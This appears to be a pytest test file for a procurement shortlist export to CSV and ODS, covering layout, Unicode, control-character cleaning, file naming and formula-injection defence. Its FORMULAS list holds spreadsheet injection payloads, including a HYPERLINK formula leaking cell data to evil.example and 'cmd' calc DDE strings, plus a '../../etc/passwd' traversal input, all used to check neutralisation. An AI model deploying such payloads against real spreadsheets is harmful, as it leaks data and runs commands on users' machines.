"""The shortlist export (R1.13): the same cells in CSV and ODS, read back as a buyer's spreadsheet would."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from odf import teletype
from odf.element import Element
from odf.namespaces import OFFICENS, TABLENS
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow
from odf.text import P

import app.buyers.exports as exports_module
from app.buyers.exports import (
    COLUMNS,
    ExportRow,
    ShortlistExport,
    clean_cell,
    filename,
    format_search_ended,
    slugify,
    to_csv,
    to_ods,
)

SEARCH_ENDED = datetime(2026, 11, 23, 14, 5)

HEADINGS = [
    "Supplier name",
    "Service name",
    "Service description",
    "Price",
    "Service page URL",
    "Contact name",
    "Telephone",
    "Email",
    "Excluded from evaluation",
]


def service(number: int = 1, **overrides: str) -> ExportRow:
    values = {
        "supplier_name": f"Riverside Care Mutual {number}",
        "service_name": f"Case notes {number}",
        "service_description": "Case notes for housing officers.",
        "price": "£100 to £500 per user per month",
        "service_url": f"https://cloudstore.example/services/{number}",
        "contact_name": "Siân Ellis",
        "telephone": "020 7946 0000",
        "email": "sales@riverside.example",
    }
    values.update(overrides)
    return ExportRow(**values)


def shortlist(rows: tuple[ExportRow, ...] = (), **overrides: object) -> ShortlistExport:
    export = ShortlistExport(
        framework="G-Cloud 14",
        search_ended=SEARCH_ENDED,
        search_summary="34 results found containing case management in Cloud software",
        project_name="Case management pilot",
        rows=rows,
    )
    return replace(export, **overrides)  # type: ignore[arg-type]


def trimmed(cells: list[str]) -> list[str]:
    """A row as a spreadsheet shows it: trailing empty cells are not there."""
    while cells and cells[-1] == "":
        cells = cells[:-1]
    return cells


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads the file as UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_cells(data: bytes) -> list[list[str]]:
    return [trimmed(row) for row in csv_rows(data)]


def ods_cells(data: bytes, table_name: str = "Shortlist") -> list[list[str]]:
    """Every row of the named table as cell texts, as a spreadsheet shows them."""
    return [trimmed([text for text, _ in row]) for row in ods_table(data, table_name)]


def ods_table(data: bytes, table_name: str = "Shortlist") -> list[list[tuple[str, Element]]]:
    """The named table's rows of (text, cell element), expanding repeated rows and columns."""
    document = load(io.BytesIO(data))
    tables = [t for t in document.spreadsheet.getElementsByType(Table) if t.getAttribute("name") == table_name]
    assert len(tables) == 1, f"one table named {table_name!r}"
    rows: list[list[tuple[str, Element]]] = []
    for row in tables[0].getElementsByType(TableRow):
        cells: list[tuple[str, Element]] = []
        for cell in row.childNodes:
            if cell.qname[0] != TABLENS or cell.qname[1] not in ("table-cell", "covered-table-cell"):
                continue
            text = "\n".join(teletype.extractText(p) for p in cell.getElementsByType(P))
            cells += [(text, cell)] * int(cell.getAttrNS(TABLENS, "number-columns-repeated") or 1)
        rows += [cells] * int(row.getAttrNS(TABLENS, "number-rows-repeated") or 1)
    return rows


READERS: dict[str, tuple[Callable[[ShortlistExport], bytes], Callable[[bytes], list[list[str]]]]] = {
    "csv": (to_csv, csv_cells),
    "ods": (to_ods, ods_cells),
}

both_formats = pytest.mark.parametrize("file_format", list(READERS))


def read(file_format: str, export: ShortlistExport) -> list[list[str]]:
    write, read_back = READERS[file_format]
    return read_back(write(export))


# Layout ----------------------------------------------------------------------------------------------------


def test_the_columns_are_the_digital_marketplace_ones_then_the_exclusion_reason() -> None:
    assert list(COLUMNS) == HEADINGS


@both_formats
def test_the_header_rows_name_the_framework_when_the_search_ended_its_summary_and_the_project(file_format: str) -> None:
    cells = read(file_format, shortlist((service(),)))
    assert cells[:6] == [
        ["Framework", "G-Cloud 14"],
        ["Search ended", "23 November 2026 at 2:05pm (UTC)"],
        ["Search summary", "34 results found containing case management in Cloud software"],
        ["Project", "Case management pilot"],
        [],
        HEADINGS,
    ]


@both_formats
@pytest.mark.parametrize("count", [0, 1, 30])
def test_there_is_exactly_one_row_per_shortlisted_service_in_shortlist_order(file_format: str, count: int) -> None:
    rows = tuple(service(number) for number in range(1, count + 1))
    cells = read(file_format, shortlist(rows))
    assert len(cells) == 6 + count
    assert [row[1] for row in cells[6:]] == [f"Case notes {number}" for number in range(1, count + 1)]


@both_formats
def test_each_value_sits_under_its_heading(file_format: str) -> None:
    row = service(excluded_reason="Does not integrate with our housing system.")
    cells = read(file_format, shortlist((row,)))
    assert dict(zip(cells[5], cells[6], strict=True)) == {
        "Supplier name": "Riverside Care Mutual 1",
        "Service name": "Case notes 1",
        "Service description": "Case notes for housing officers.",
        "Price": "£100 to £500 per user per month",
        "Service page URL": "https://cloudstore.example/services/1",
        "Contact name": "Siân Ellis",
        "Telephone": "020 7946 0000",
        "Email": "sales@riverside.example",
        "Excluded from evaluation": "Does not integrate with our housing system.",
    }


@both_formats
def test_a_service_still_being_evaluated_has_an_empty_exclusion_cell(file_format: str) -> None:
    cells = read(file_format, shortlist((service(1), service(2, excluded_reason="Data held outside the UK."))))
    assert len(cells[6]) == 8, "nothing in the exclusion column"
    assert cells[7][8] == "Data held outside the UK."


def test_every_data_row_has_a_cell_for_every_column_even_an_empty_exclusion() -> None:
    export = shortlist((service(),))
    assert [len(row) for row in csv_rows(to_csv(export))[5:]] == [9, 9]
    assert [len(row) for row in ods_table(to_ods(export))[5:]] == [9, 9]
    assert csv_rows(to_csv(export))[6][8] == ods_table(to_ods(export))[6][8][0] == ""


def test_both_files_hold_the_same_cells() -> None:
    export = shortlist((service(1), service(2, service_description="Two\nlines", excluded_reason="Too dear.")))
    assert csv_cells(to_csv(export)) == ods_cells(to_ods(export))


# Text survives ---------------------------------------------------------------------------------------------


@both_formats
def test_pounds_accents_and_welsh_letters_survive(file_format: str) -> None:
    row = service(
        supplier_name="Gwasanaethau Cwmwl Dŵr Cyf",
        service_name="Café rota £5 — ŵ ŷ â",
        price="£0.50 per unit per day",
    )
    cells = read(file_format, shortlist((row,), project_name="Prosiect ŵyr"))
    assert cells[3] == ["Project", "Prosiect ŵyr"]
    assert cells[6][:4] == [
        "Gwasanaethau Cwmwl Dŵr Cyf",
        "Café rota £5 — ŵ ŷ â",
        row.service_description,
        "£0.50 per unit per day",
    ]


def test_the_csv_is_utf8_with_a_byte_order_mark_and_crlf_line_ends() -> None:
    data = to_csv(shortlist((service(),)))
    assert data.startswith("\ufeffFramework,G-Cloud 14\r\n".encode())
    assert "£100".encode() in data
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 7


@both_formats
def test_a_multi_line_description_stays_in_one_cell(file_format: str) -> None:
    description = "Features:\n\n* case notes\r\n* audit trail\rEnds here."
    cells = read(file_format, shortlist((service(service_description=description), service(2))))
    assert len(cells) == 8
    assert cells[6][2] == "Features:\n\n* case notes\n* audit trail\nEnds here."
    assert cells[6][3] == "£100 to £500 per user per month"


@both_formats
def test_a_very_long_description_is_kept_whole(file_format: str) -> None:
    # Longer than the 32,767 characters an Excel cell shows, which is the spreadsheet's business, not ours.
    description = " ".join(f"word{n}" for n in range(6_000))
    assert len(description) > 50_000
    cells = read(file_format, shortlist((service(service_description=description),)))
    assert cells[6][2] == description


@both_formats
def test_spaces_and_tabs_are_kept_exactly(file_format: str) -> None:
    text = "  two leading,  two inside,\tone tab,\t after a tab, two trailing  "
    cells = read(file_format, shortlist((service(service_description=text, contact_name=" Ann"),)))
    assert cells[6][2] == text
    assert cells[6][5] == " Ann"


@both_formats
def test_control_characters_other_than_newline_and_tab_are_removed(file_format: str) -> None:
    row = service(service_name="Case\x00 notes\x07\x1b[31m\x7f\x85", service_description="a\tb\nc\x0bd\x0ce")
    cells = read(file_format, shortlist((row,), search_summary="summary\x08"))
    assert cells[2] == ["Search summary", "summary"]
    assert cells[6][1] == "Case notes[31m"
    assert cells[6][2] == "a\tb\ncde"


def test_cleaning_keeps_newlines_and_tabs_and_makes_carriage_returns_newlines() -> None:
    assert clean_cell("a\r\nb\rc\nd\te\x00\x1f\ufffe") == "a\nb\nc\nd\te"
    assert clean_cell("") == ""


# Formula injection -----------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for pricing")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_supplier_entered_formula_is_plain_text_in_the_csv(formula: str) -> None:
    row = service(service_name=formula, supplier_name=formula, excluded_reason=formula)
    cells = csv_cells(to_csv(shortlist((row,), project_name=formula)))
    cleaned = clean_cell(formula)
    for value in (cells[3][1], cells[6][0], cells[6][1], cells[6][8]):
        assert value == "'" + cleaned
        assert value[0] == "'", "a leading apostrophe stops Excel and LibreOffice evaluating the cell"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_supplier_entered_formula_is_a_string_cell_in_the_ods_kept_as_entered(formula: str) -> None:
    row = service(service_name=formula)
    table = ods_table(to_ods(shortlist((row,))))
    text, cell = table[6][1]
    assert text == clean_cell(formula)
    assert cell.getAttrNS(OFFICENS, "value-type") == "string"
    assert cell.getAttrNS(TABLENS, "formula") is None


def test_no_ods_cell_is_a_formula_or_anything_but_a_string() -> None:
    rows = tuple(service(n, service_name=formula) for n, formula in enumerate(FORMULAS))
    data = to_ods(shortlist(rows, project_name="=1+1"))
    for row in ods_table(data):
        for text, cell in row:
            assert cell.getAttrNS(TABLENS, "formula") is None
            if text:
                assert cell.getAttrNS(OFFICENS, "value-type") == "string"
    assert b"table:formula" not in content_xml(data)


def test_ordinary_values_are_not_given_an_apostrophe() -> None:
    row = service(service_name="Case notes = better", price="£1", telephone="020 7946 0000")
    cells = csv_cells(to_csv(shortlist((row,))))
    assert cells[6][1] == "Case notes = better"
    assert cells[6][6] == "020 7946 0000"


def test_a_telephone_number_starting_with_plus_shows_an_apostrophe_in_csv_only() -> None:
    export = shortlist((service(telephone="+44 20 7946 0000"),))
    assert csv_cells(to_csv(export))[6][6] == "'+44 20 7946 0000"
    assert ods_cells(to_ods(export))[6][6] == "+44 20 7946 0000"


# The ODS file itself ---------------------------------------------------------------------------------------


def test_the_ods_is_an_opendocument_spreadsheet_with_one_table_named_shortlist() -> None:
    data = to_ods(shortlist((service(),)))
    document = load(io.BytesIO(data))
    assert document.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    assert [t.getAttribute("name") for t in document.spreadsheet.getElementsByType(Table)] == ["Shortlist"]


def test_the_ods_header_labels_and_headings_are_bold_and_the_values_are_not() -> None:
    data = to_ods(shortlist((service(),)))
    document = load(io.BytesIO(data))
    bold = {
        style.getAttribute("name")
        for style in document.automaticstyles.childNodes
        if style.getAttribute("family") == "table-cell"
        and any(props.getAttribute("fontweight") == "bold" for props in style.childNodes)
    }
    assert bold
    table = ods_table(data)

    def is_bold(cell: Element) -> bool:
        return cell.getAttrNS(TABLENS, "style-name") in bold

    assert [is_bold(cell) for row in table[:4] for _, cell in row] == [True, False] * 4
    assert all(is_bold(cell) for _, cell in table[5])
    assert not any(is_bold(cell) for _, cell in table[6])


def test_every_ods_row_fits_the_declared_columns() -> None:
    data = to_ods(shortlist((service(),)))
    document = load(io.BytesIO(data))
    table = document.spreadsheet.getElementsByType(Table)[0]
    columns = sum(int(c.getAttrNS(TABLENS, "number-columns-repeated") or 1) for c in table.childNodes
                  if c.qname == (TABLENS, "table-column"))
    assert columns == len(COLUMNS)
    assert all(len(row.getElementsByType(TableCell)) <= columns for row in table.getElementsByType(TableRow))


# Search ended and the file name ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("moment", "shown"),
    [
        (datetime(2026, 11, 23, 14, 5), "23 November 2026 at 2:05pm (UTC)"),
        (datetime(2026, 1, 1, 0, 0), "1 January 2026 at 12:00am (UTC)"),
        (datetime(2026, 6, 30, 12, 30), "30 June 2026 at 12:30pm (UTC)"),
        (datetime(2026, 6, 30, 9, 7, 59), "30 June 2026 at 9:07am (UTC)"),
        (datetime(2026, 6, 30, 23, 30, tzinfo=timezone(timedelta(hours=-1))), "1 July 2026 at 12:30am (UTC)"),
    ],
)
def test_the_search_end_is_shown_in_words_in_utc(moment: datetime, shown: str) -> None:
    assert format_search_ended(moment) == shown


@pytest.mark.parametrize(
    ("project_name", "expected"),
    [
        ("Case management pilot", "cloudstore-shortlist-case-management-pilot-2026-11-23.csv"),
        ("  Café / Caffi: Prosiect ŵyr #2!  ", "cloudstore-shortlist-cafe-caffi-prosiect-wyr-2-2026-11-23.csv"),
        ("=HYPERLINK(\"x\")", "cloudstore-shortlist-hyperlink-x-2026-11-23.csv"),
        ("../../etc/passwd", "cloudstore-shortlist-etc-passwd-2026-11-23.csv"),
        ("£££", "cloudstore-shortlist-project-2026-11-23.csv"),
        ("", "cloudstore-shortlist-project-2026-11-23.csv"),
        ("数据", "cloudstore-shortlist-project-2026-11-23.csv"),
    ],
)
def test_the_file_name_is_the_project_slug_and_the_day_the_search_ended(project_name: str, expected: str) -> None:
    assert filename(shortlist(project_name=project_name), "csv") == expected


def test_the_ods_file_name_ends_in_ods() -> None:
    assert filename(shortlist(), "ods") == "cloudstore-shortlist-case-management-pilot-2026-11-23.ods"


def test_the_file_name_date_is_the_utc_day() -> None:
    late_in_new_york = datetime(2026, 11, 23, 22, 0, tzinfo=timezone(timedelta(hours=-5)))
    assert filename(shortlist(search_ended=late_in_new_york), "csv").endswith("-2026-11-24.csv")
    last_minute_utc = datetime(2026, 11, 23, 23, 59, tzinfo=UTC)
    assert filename(shortlist(search_ended=last_minute_utc), "csv").endswith("-2026-11-23.csv")


def test_a_long_project_name_is_cut_to_whole_words_within_sixty_characters() -> None:
    name = "Replacement of the housing repairs case management system for the northern districts"
    slug = slugify(name)
    assert slug == "replacement-of-the-housing-repairs-case-management-system"
    assert len(slug) <= 60
    assert slugify("a" * 100) == "a" * 60
    assert slugify("word-" * 12 + "end") == "-".join(["word"] * 12)


@pytest.mark.parametrize("extension", ["pdf", "xlsx", "", ".csv", "CSV"])
def test_only_csv_and_ods_file_names_are_made(extension: str) -> None:
    with pytest.raises(ValueError):
        filename(shortlist(), extension)


# Purity ----------------------------------------------------------------------------------------------------


def test_the_export_module_imports_neither_flask_nor_a_database() -> None:
    tree = ast.parse(Path(exports_module.__file__).read_text())
    imported: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert not imported & {"flask", "sqlalchemy", "flask_login", "flask_wtf"}


def test_the_same_shortlist_gives_the_same_csv() -> None:
    export = shortlist((service(1), service(2)))
    assert to_csv(export) == to_csv(shortlist((service(1), service(2))))


def content_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("content.xml")
